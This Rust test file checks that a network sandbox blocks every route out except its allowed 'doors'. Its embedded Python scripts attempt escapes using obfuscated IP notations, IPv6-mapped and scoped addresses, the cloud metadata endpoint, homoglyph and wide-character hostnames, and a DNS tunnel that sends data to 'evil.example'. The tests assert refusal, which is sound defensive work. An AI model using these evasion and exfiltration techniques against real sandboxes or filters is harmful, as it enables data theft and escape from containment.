//! What a cell with doors must not reach, whatever it tries. Never: sends a byte beyond this host, also where a cell would let it.

use std::io::{BufRead as _, BufReader};
use std::process::Stdio;

use super::world::{PYTHON, World, echo, has_six, host, name_of_this_host};

/// What each attempt is answered: `open`, the errno, or that the name is unknown. None has a time-out of its own.
const TRY: &str = r#"
def attempt(name, way):
    try:
        way()
        print(name, 'open')
    except socket.gaierror:
        print(name, 'unknown')
    except OSError as error:
        print(name, errno.errorcode.get(error.errno, str(error)))
def tcp(address, port, family=socket.AF_INET):
    def way():
        s = socket.socket(family, socket.SOCK_STREAM)
        # With the scope of an address, which a pair of host and port has no room for.
        s.connect(socket.getaddrinfo(address, port)[0][4] if '%' in str(address) else (address, port))
        s.sendall(b'hello'); s.shutdown(socket.SHUT_WR)
        if s.recv(5) != b'hello': raise OSError(errno.ECONNRESET, '')
    return way
def udp(address, port):
    return lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (address, port))
def udp_connected(address, port):
    def way():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((address, port)); s.send(b'x')
    return way
"#;

#[test]
fn everything_but_the_doors_has_no_route_in_any_notation() {
    let world = World::new();
    let (door, other) = (host(echo), host(echo));
    let network = format!(
        "allow = [\"door.internal:{door}\", \"*.w.internal:{door}\"]\nhosts = {{ \"door.internal\" = \"127.0.0.1\" }}"
    );
    let script = format!(
        "{TRY}
attempt('door', tcp('door.internal', {door}))
attempt('its other port', tcp('door.internal', {other}))
attempt('another name', tcp('host.internal', {door}))
attempt('loopback', tcp('127.0.0.1', {door}))
attempt('other port', tcp('127.0.0.1', {other}))
attempt('short', tcp('127.1', {other}))
attempt('number', tcp('2130706433', {other}))
attempt('hexadecimal', tcp('0x7f.1', {other}))
attempt('octal', tcp('0177.0.0.1', {other}))
attempt('zero', tcp('0.0.0.0', {other}))
attempt('zero six', tcp('::', {other}, socket.AF_INET6))
attempt('scoped', tcp('fe80::1%lo', {other}, socket.AF_INET6))
attempt('mapped', tcp('::ffff:127.0.0.1', {other}, socket.AF_INET6))
attempt('six', tcp('::1', {other}, socket.AF_INET6))
attempt('not given out', tcp('127.80.0.1', {door}))
attempt('not given out six', tcp('fd74:5ce1:1d00:1::1', {door}, socket.AF_INET6))
attempt('no place', tcp('127.64.0.99', {door}))
attempt('world', tcp('192.0.2.1', {door}))
attempt('world in octal', tcp('0300.0.2.1', {door}))
attempt('world as a number', tcp('3221225985', {door}))
attempt('world mapped', tcp('::ffff:192.0.2.1', {door}, socket.AF_INET6))
attempt('world six', tcp('2001:db8::1', {door}, socket.AF_INET6))
attempt('metadata', tcp('169.254.169.254', 80))
attempt('metadata six', tcp('fd00:ec2::254', 80, socket.AF_INET6))
attempt('udp', udp('192.0.2.1', 53))
attempt('udp connected', udp_connected('192.0.2.1', 54))
attempt('udp at a door', udp('127.64.0.1', 9))
attempt('udp multicast', udp('224.0.0.251', 5353))
attempt('udp broadcast', udp('255.255.255.255', 53))
"
    );
    let done = world.python(&network, &script);
    // By a connection of TCP the kernel sends whatever address is said.
    let sent = world.python(
        &network,
        &format!(
            "s = socket.create_connection(('door.internal', {door}), timeout=20)
print(s.sendto(b'hello', ('192.0.2.1', 9)), s.recv(5).decode())"
        ),
    );
    assert_eq!((sent.stdout.as_str(), sent.refused()), ("5 hello\n", vec![]), "{sent:#?}");
    let answers: Vec<(&str, &str)> = done.stdout.lines().filter_map(|line| line.rsplit_once(' ')).collect();
    let open: Vec<&str> =
        answers.iter().filter(|(_, answer)| *answer == "open").map(|(name, _)| *name).collect();
    assert_eq!((open, answers.len()), (vec!["door"], 29), "{done:#?}");
    // None waits for somebody who does not answer: each has its answer from the kernel of the cell, or from a door.
    let at_once = ["open", "ECONNREFUSED", "ENETUNREACH", "ECONNRESET", "ENOTCONN", "EPIPE", "unknown"];
    assert!(answers.iter().all(|(_, answer)| at_once.contains(answer)), "{answers:?}");
    for (name, errno) in [
        ("its other port", "ECONNREFUSED"),
        ("other port", "ECONNREFUSED"),
        ("number", "ECONNREFUSED"),
        ("octal", "ECONNREFUSED"),
        ("world", "ENETUNREACH"),
        ("world in octal", "ENETUNREACH"),
        ("world mapped", "ENETUNREACH"),
        ("scoped", "ENETUNREACH"),
        ("metadata", "ENETUNREACH"),
        ("metadata six", "ENETUNREACH"),
        ("udp", "ENETUNREACH"),
        ("udp connected", "ENETUNREACH"),
        ("udp at a door", "ECONNREFUSED"),
        ("zero", "ECONNREFUSED"),
        ("zero six", "ECONNREFUSED"),
    ] {
        assert!(answers.contains(&(name, errno)), "{name} {errno}: {done:#?}");
    }
    let allow = |destination: &str| format!("[network]\nallow = [\"{destination}\"]");
    for object in [
        format!("192.0.2.1:{door}"),
        format!("[2001:db8::1]:{door}"),
        "169.254.169.254:80".to_owned(),
        format!("127.0.0.1:{other}"),
        format!("[::1]:{other}"),
    ] {
        done.has_refused("connect", &object, &allow(&object));
    }
    for (operation, object) in
        [("sendto", "192.0.2.1:53"), ("connect", "192.0.2.1:54"), ("sendto", "127.64.0.1:9")]
    {
        let told = done.report["violations"].as_array().unwrap();
        let told = told.iter().find(|one| one["operation"] == operation && one["object"] == object);
        let told = told.unwrap_or_else(|| panic!("{operation} {object}: {done:#?}"));
        assert!(
            told["allow"].is_null() && told["rule"].as_str().unwrap().contains("over TCP alone"),
            "{told}"
        );
    }
    done.has_refused("resolve", "host.internal", &allow("host.internal:443"));
    let connections = done.connections();
    assert_eq!(connections.len(), 1, "{connections:?}");
}

/// Letters that a program makes others of, before it asks or not at all.
#[test]
fn a_name_in_other_letters_is_the_door_it_becomes_or_none() {
    let world = World::new();
    let port = host(echo);
    let network = format!(
        "allow = [\"door.internal:{port}\", \"*.w.internal:{port}\"]
hosts = {{ \"door.internal\" = \"127.0.0.1\", \"a.w.internal\" = \"127.0.0.1\", \"xn--bcher-kva.w.internal\" = \"127.0.0.1\" }}"
    );
    let script = format!(
        r#"{TRY}
attempt('dot', tcp('door.internal.', {port}))
attempt('dot below a pattern', tcp('A.w.internal.', {port}))
attempt('two dots', tcp(b'door.internal..', {port}))
attempt('wide dot', tcp('door\uff0einternal', {port}))
attempt('wide dot as it is', tcp('door\uff0einternal'.encode(), {port}))
attempt('wide letters', tcp('\uff44oor.internal', {port}))
attempt('idn', tcp('b\u00fccher.w.internal', {port}))
attempt('idn as it is', tcp('b\u00fccher.w.internal'.encode(), {port}))
attempt('idn of no door', tcp('b\u00fccher.internal', {port}))
attempt('alike', tcp('d\u043e\u043er.internal', {port}))
"#
    );
    let done = world.python(&network, &script);
    let none = "unknown\n";
    assert_eq!(
        done.stdout,
        format!(
            "dot open\ndot below a pattern open\ntwo dots {none}wide dot open\nwide dot as it is {none}wide letters open\n\
             idn open\nidn as it is {none}idn of no door {none}alike {none}"
        ),
        "{done:#?}"
    );
    for name in ["xn--bcher-kva.internal", "xn--dr-fmca.internal"] {
        done.has_refused("resolve", name, &format!("[network]\nallow = [\"{name}:443\"]"));
    }
    let to: Vec<String> = done.connections().into_iter().map(|(to, ..)| to).collect();
    let doors = ["door", "a.w", "door", "door", "xn--bcher-kva.w"];
    assert_eq!(to, doors.map(|name| format!("{name}.internal:{port}")));
}

#[test]
fn a_question_carries_nothing_out_and_is_recorded() {
    let world = World::new();
    let script = r#"
import struct
def ask(name, kind):
    question = b''.join(bytes([len(label)]) + label for label in name) + b'\0' + struct.pack('>HH', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
    s.sendto(struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + question, ('127.0.0.53', 53))
    answer = s.recv(512)
    print(answer[3] & 15, int.from_bytes(answer[6:8], 'big'), answer[-4:].hex() if answer[7] else '')
ask([b'A', b'w', b'internal'], 1)
ask([b'b', b'w', b'internal'], 1)
ask([b'a', b'w', b'internal'], 1)
ask([b'a', b'w', b'internal'], 28)
ask([b'a', b'w', b'internal'], 16)
ask([b'w', b'internal'], 1)
ask([b'the-secret', b'evil', b'example'], 16)
ask([b'a\0', b'w', b'internal'], 1)
s = socket.create_connection(('127.0.0.53', 53), timeout=10)
q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b'\1c\1w\x08internal\0' + struct.pack('>HH', 1, 1)
s.sendall(struct.pack('>H', len(q)) + q)
print(s.recv(512)[-4:].hex())
"#;
    let done = world.python("allow = [\"*.w.internal:443\"]", script);
    let six = if has_six() { "0 1 00000001" } else { "0 0 " };
    assert_eq!(
        done.stdout,
        format!("0 1 7f500001\n0 1 7f500002\n0 1 7f500001\n{six}\n0 0 \n3 0 \n3 0 \n3 0 \n7f500003\n"),
        "{done:#?}"
    );
    done.has_refused("resolve", "w.internal", "[network]\nallow = [\"w.internal:443\"]");
    done.has_refused(
        "resolve",
        "the-secret.evil.example",
        "[network]\nallow = [\"the-secret.evil.example:443\"]",
    );
    done.has_refused("resolve", "a\\000.w.internal", "");
}

/// A tunnel of names: data in their labels, and records of every kind to bring an answer back, over UDP and over TCP.
#[test]
fn a_tunnel_of_names_has_no_other_end() {
    let world = World::new();
    let script = r#"
import struct
def question(name, kind):
    labels = b''.join(bytes([len(label)]) + label for label in name)
    return struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1)
# TXT, NULL, CNAME, MX, SRV, HTTPS, ANY
kinds, codes, carried = [16, 10, 5, 15, 33, 65, 255], set(), set()
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.settimeout(20)
for n in range(700):
    kind = kinds[n % 7]
    zone = [b'evil', b'example'] if n % 2 else [b'w', b'internal']
    udp.sendto(question([b'%060d' % n, b'%060d' % n] + zone, kind), ('127.0.0.53', 53))
    answer = udp.recv(512)
    codes.add((answer[3] & 15, n % 2)); carried.add(int.from_bytes(answer[6:12], 'big'))
tcp = socket.create_connection(('127.0.0.53', 53), timeout=20)
for n in range(200):
    said = question([b'%060d' % n, b'evil', b'example'], 16)
    tcp.sendall(struct.pack('>H', len(said)) + said)
    length = int.from_bytes(tcp.recv(2, socket.MSG_WAITALL), 'big')
    answer = tcp.recv(length, socket.MSG_WAITALL)
    codes.add((answer[3] & 15, 1)); carried.add(int.from_bytes(answer[6:12], 'big'))
print(sorted(codes), carried)
"#;
    let done = world.python("allow = [\"*.w.internal:443\"]", script);
    assert_eq!(done.stdout, "[(0, 0), (3, 1)] {0}\n", "{done:#?}");
    let all = done.report["violations"].as_array().unwrap();
    let (names, others): (Vec<_>, Vec<_>) = all.iter().partition(|one| one["layer"] == "network");
    let told: u64 = names.iter().map(|one| one["count"].as_u64().unwrap()).sum();
    assert!(names.len() <= 33 && told == 550, "{} {told}", names.len());
    assert!(others.into_iter().all(crate::host::is_of_its_slowness), "{done:#?}");
    assert!(done.connections().is_empty());
}

#[test]
fn a_name_that_leads_to_this_host_is_refused_unless_that_is_spelled_out() {
    let world = World::new();
    let port = host(echo);
    let Some(name) = name_of_this_host() else { return };
    let reach = format!("{TRY}\nattempt('it', tcp('{name}', {port}))");
    let done = world.python(&format!("allow = [\"{name}:{port}\"]"), &reach);
    assert_eq!(done.stdout, "it ECONNRESET\n", "{done:#?}");
    let refused = done.refused();
    assert!(
        refused.iter().any(|(operation, object, allow)| operation == "connect"
            && object.starts_with(&format!("{name}:{port} at "))
            && allow.starts_with("[network]\nhosts = ")),
        "{refused:?}"
    );
    for granted in [
        "private = [\"127.0.0.0/8\", \"::1/128\"]".to_owned(),
        format!("hosts = {{ \"{name}\" = \"127.0.0.1\" }}"),
    ] {
        let done = world.python(&format!("allow = [\"{name}:{port}\"]\n{granted}"), &reach);
        assert_eq!(done.stdout, "it open\n", "{granted}: {done:#?}");
    }
}

/// Each has a loopback of its own, with the same addresses on it.
#[test]
fn a_cell_does_not_reach_another_ones_doors() {
    let (first, second) = (World::new(), World::new());
    let (port, other) = (host(echo), host(echo));
    let allow = |port: u16| {
        format!("allow = [\"door.internal:{port}\"]\nhosts = {{ \"door.internal\" = \"127.0.0.1\" }}")
    };
    let there = format!(
        "import socket, sys
s = socket.create_connection(('door.internal', {port}), timeout=20); s.sendall(b'hello')
print(s.recv(5).decode(), flush=True); sys.stdin.read()"
    );
    let mut held = first.command(&allow(port), &[], &[&PYTHON[..], &[&there]].concat());
    let mut held = held.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let mut said = String::new();
    BufReader::new(held.stdout.as_mut().unwrap()).read_line(&mut said).unwrap();
    assert_eq!(said, "hello\n");
    let script = format!(
        "{TRY}
attempt('own', tcp('door.internal', {other}))
attempt('its address', tcp('127.64.0.1', {port}))
attempt('its port', tcp('127.0.0.1', {port}))
attempt('any', tcp('0.0.0.0', {port}))"
    );
    let done = second.python(&allow(other), &script);
    drop(held.stdin.take());
    assert!(held.wait().unwrap().success());
    let refused = "its address ECONNREFUSED\nits port ECONNREFUSED\nany ECONNREFUSED\n";
    assert_eq!(done.stdout, format!("own open\n{refused}"), "{done:#?}");
}

#[test]
fn a_door_behind_which_nobody_is_is_told_when_the_command_fails() {
    let world = World::new();
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let script = format!(
        "try: socket.create_connection(('127.0.0.1', {port}), timeout=20).recv(1)\nexcept OSError: sys.exit("
    );
    let allow = format!("allow = [\"127.0.0.1:{port}\"]");
    let failed = world.python(&allow, &format!("{script}3)"));
    let told = format!("nobody could be reached through the door `127.0.0.1:{port}`");
    assert!(failed.code == 3 && failed.stderr.matches(&told).count() == 1, "{failed:#?}");
    let done = world.python(&allow, &format!("{script}0)"));
    assert!(done.code == 0 && !done.stderr.contains("nobody"), "{done:#?}");
}

#[test]
fn without_a_door_there_is_nothing_to_reach_and_nothing_to_ask() {
    let world = World::new();
    let port = host(echo);
    let done = world.python(
        "deny = [\"localhost:*\"]",
        &format!(
            "{TRY}\nattempt('it', tcp('127.0.0.1', {port}))\nattempt('name', tcp('door.internal', {port}))"
        ),
    );
    assert!(!done.stdout.contains("open"), "{done:#?}");
    assert!(done.report["traffic"].is_null() && done.report["receipt"]["layers"]["network"].is_null());
    assert_eq!(done.report["receipt"]["coverage"]["network"], "sampled");
    let at = format!("127.0.0.1:{port}");
    let mut told = done.report["violations"].as_array().unwrap().iter();
    assert!(told.any(|one| one["layer"] == "network" && one["object"] == *at), "{done:#?}");
    let denied =
        world.exec("deny = [\"localhost:*\"]", &["--net", &format!("localhost:{port}")], &["/bin/true"]);
    assert!(denied.code != 0 && denied.stderr.contains("is denied by `deny` in `[network]`"), "{denied:#?}");
}
